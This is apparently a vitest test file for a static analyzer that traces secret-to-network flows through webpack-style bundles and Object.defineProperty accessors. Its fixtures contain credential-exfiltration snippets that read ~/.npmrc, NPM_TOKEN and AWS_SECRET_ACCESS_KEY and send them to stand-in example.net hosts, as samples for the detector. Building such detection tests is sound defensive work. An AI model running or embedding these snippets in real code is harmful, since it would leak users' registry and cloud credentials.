import { describe, expect, it } from "vitest";
import { factoriesOf } from "../../../src/analyzers/js/bundles.js";
import { parseJs } from "../../../src/analyzers/js/parse.js";
import type { Node } from "../../../src/analyzers/js/ast.js";
import { analyze, flowSummary } from "./helpers.js";

/** A webpack-5-shaped bundle of these module bodies (ids 0..n-1); module 0 is the entry. */
function webpackBundle(bodies: string[]): string {
  const modules = bodies.map((body, id) => `${id}: ((module, exports, __webpack_require__) => {\n${body}\n})`).join(",\n");
  return `(() => {
var __webpack_modules__ = ({
${modules}
});
var __webpack_module_cache__ = {};
function __webpack_require__(moduleId) {
  var cachedModule = __webpack_module_cache__[moduleId];
  if (cachedModule !== undefined) return cachedModule.exports;
  var module = __webpack_module_cache__[moduleId] = { exports: {} };
  __webpack_modules__[moduleId](module, module.exports, __webpack_require__);
  return module.exports;
}
__webpack_require__(0);
})();`;
}

function literal(code: string): Node {
  const { ast } = parseJs("x.js", `(${code})`);
  return ast!.body[0].expression;
}

describe("bundled code", () => {
  it("a read and a send ten bundled modules apart are one flow (deeper than inlining goes)", async () => {
    // Each module requires the next at its top level: ten modules loading inside each other.
    const chain = Array.from({ length: 10 }, (_, i) => `module.exports = { send: __webpack_require__(${i + 2}).send };`);
    const bodies = [
      `__webpack_require__(1).send(require("fs").readFileSync(require("os").homedir() + "/.npmrc", "utf8"));`,
      ...chain,
      `module.exports = { send: (x) => fetch("https://collector.example.net/u", { method: "POST", body: x }) };`,
    ];
    const facts = await analyze({ "index.js": webpackBundle(bodies) });
    expect(flowSummary(facts)).toEqual(["registry-token -> http https://collector.example.net/u @index.js:37 (import)"]);
  });

  it("a module loaded twice runs once (the bundle's cache), and a module that requires itself does not loop", async () => {
    const bodies = [
      `__webpack_require__(1); __webpack_require__(1);`,
      `module.exports = {}; __webpack_require__(1); fetch("https://a.example.net/" + process.env.NPM_TOKEN);`,
    ];
    const facts = await analyze({ "index.js": webpackBundle(bodies) });
    expect(flowSummary(facts)).toEqual(["env-secret -> http https://a.example.net/* @index.js:7 (import)"]);
  });

  it("recognises module maps by shape only", () => {
    expect(factoriesOf(literal(`{ 12: (m, e, r) => {}, 13: function (m) {} }`)).map((f) => f.id)).toEqual(["12", "13"]);
    expect(factoriesOf(literal(`{ "./src/a.js": (m, e, r) => {}, fs: (m) => {} }`)).map((f) => f.id)).toEqual(["./src/a.js", "fs"]);
    expect(factoriesOf(literal(`{ 1: [function (require, module, exports) {}, { "./b": 2 }] }`)).map((f) => f.id)).toEqual(["1"]);
    expect(factoriesOf(literal(`[function (e, t, n) {}, function (e, t) {}]`)).map((f) => f.id)).toEqual(["0", "1"]);
    // Not module maps: ordinary method tables and callbacks.
    expect(factoriesOf(literal(`{ get: (a) => a, set: (a, b) => b }`))).toEqual([]);
    expect(factoriesOf(literal(`[(a) => a]`))).toEqual([]);
    expect(factoriesOf(literal(`{ 1: (a, b, c, d) => a }`))).toEqual([]);
  });

  it("an accessor defined with Object.defineProperty gives its getter's value when read", async () => {
    const facts = await analyze({
      "index.js": `var ex = {};
Object.defineProperty(ex, "send", { enumerable: true, get: () => send });
const send = (d) => fetch("https://b.example.net/x", { method: "POST", body: d });
ex.send(process.env.AWS_SECRET_ACCESS_KEY);`,
    });
    expect(flowSummary(facts)).toEqual(["env-secret -> http https://b.example.net/x @index.js:3 (import)"]);
  });
});
